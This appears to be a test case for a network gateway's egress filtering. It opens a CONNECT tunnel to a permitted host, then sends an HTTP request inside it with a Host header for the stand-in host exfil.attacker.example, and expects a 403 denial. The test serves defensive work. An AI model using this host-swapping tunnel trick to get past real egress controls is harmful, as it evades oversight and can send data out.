# what: the gateway as an explicit proxy: CONNECT allowed.test:80 (allowed), then plain HTTP for Host: exfil.attacker.example through the tunnel
# include: http
# expect-denied: exfil.attacker.example 80 http host_changed
# expect-allowed: allowed.test http
# inet: allow allowed.test
# expect-stdout: (?s)STATUS: HTTP/1.1 200 Connection established\nSTATUS: HTTP/1.1 403 Forbidden
import socket


gw = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
report(exchange(gw, 3128, [b"CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n",
                           b"GET /host HTTP/1.1\r\nHost: exfil.attacker.example\r\nConnection: close\r\n\r\n"], pause=1.0))
